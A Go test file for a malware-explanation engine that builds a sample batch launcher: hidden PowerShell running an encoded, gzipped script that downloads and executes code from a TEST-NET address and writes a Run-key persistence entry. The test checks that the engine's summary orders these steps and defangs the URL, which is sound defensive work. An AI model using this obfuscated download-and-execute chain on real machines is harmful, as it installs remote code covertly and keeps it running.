package explain_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/automaldesc/automaldesc/analysis"
)

func utf16le(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	return b
}

func gzipB64(t testing.TB, s string) string {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write([]byte(s)); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

// chain is an inert batch launcher: powershell -enc of a gzip+Base64 blob
// that holds a download cradle (TEST-NET address) and a Run-key write. The
// persistence is written first in the inner script so that the story has to
// reorder it.
func chain(t testing.TB) []byte {
	inner := "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name OneSync -Value 'powershell -w hidden -f C:\\Users\\Public\\s.ps1'\n" +
		"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/s.ps1')\n"
	inflate := "$d = [Convert]::FromBase64String('" + gzipB64(t, inner) + "')\n" +
		"$s = New-Object IO.Compression.GzipStream([IO.MemoryStream]$d, [IO.Compression.CompressionMode]::Decompress)\n" +
		"$r = (New-Object IO.StreamReader($s)).ReadToEnd()\nIEX $r\n"
	enc := base64.StdEncoding.EncodeToString(utf16le(inflate))
	return []byte("@echo off\r\npowershell.exe -NoProfile -WindowStyle Hidden -enc " + enc + "\r\nexit /b 0\r\n")
}

func TestEngineChain(t *testing.T) {
	e, x := newEngine(t)
	r := analyze(t, e, "chain.bat", chain(t))
	if r.Status != analysis.StatusOK {
		t.Fatalf("status: got %s (%s), want ok", r.Status, r.Reason)
	}
	got, err := x.Explain(context.Background(), r)
	if err != nil {
		t.Fatal(err)
	}
	checkGrounded(t, r, got)
	if n := len(sentences(got.Summary)); n < 3 || n > 5 {
		t.Errorf("got %d sentences, want 3-5: %s", n, got.Summary)
	}
	for _, w := range []string{"Batch launcher", "powershell.exe", "gzip"} {
		if !strings.Contains(got.Summary, w) {
			t.Errorf("summary lacks %q: %s", w, got.Summary)
		}
	}
	last := -1
	for _, m := range []string{"gzip", "hxxp://192[.]0[.]2[.]44/s.ps1", "IEX", "T1547.001"} {
		at := strings.Index(got.Summary, m)
		if at < 0 {
			t.Fatalf("summary lacks %q: %s", m, got.Summary)
		}
		if at < last {
			t.Errorf("%q is told before the step it follows: %s", m, got.Summary)
		}
		last = at
	}
	if testing.Verbose() {
		t.Log(got.Summary)
	}
}

// TestEngineStatuses: skipped and empty inputs through the real engine.
func TestEngineStatuses(t *testing.T) {
	e, x := newEngine(t)
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"binary", append([]byte("MZ\x90\x00\x03\x00\x00\x00"), bytes.Repeat([]byte{0, 1, 2, 0xff}, 64)...), "skipped"},
		{"too big", bytes.Repeat([]byte("a"), 2<<20), "max_file_size"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := analyze(t, e, tc.name, tc.data)
			got, err := x.Explain(context.Background(), r)
			if err != nil {
				t.Fatal(err)
			}
			checkGrounded(t, r, got)
			if r.Status == analysis.StatusOK {
				t.Fatalf("engine analysed %s: want it skipped or failed", tc.name)
			}
			if n := len(got.Claims); n != 1 {
				t.Errorf("got %d claims, want 1: %s", n, got.Summary)
			}
			if !strings.Contains(got.Summary, tc.want) {
				t.Errorf("summary lacks %q: %s", tc.want, got.Summary)
			}
		})
	}
}
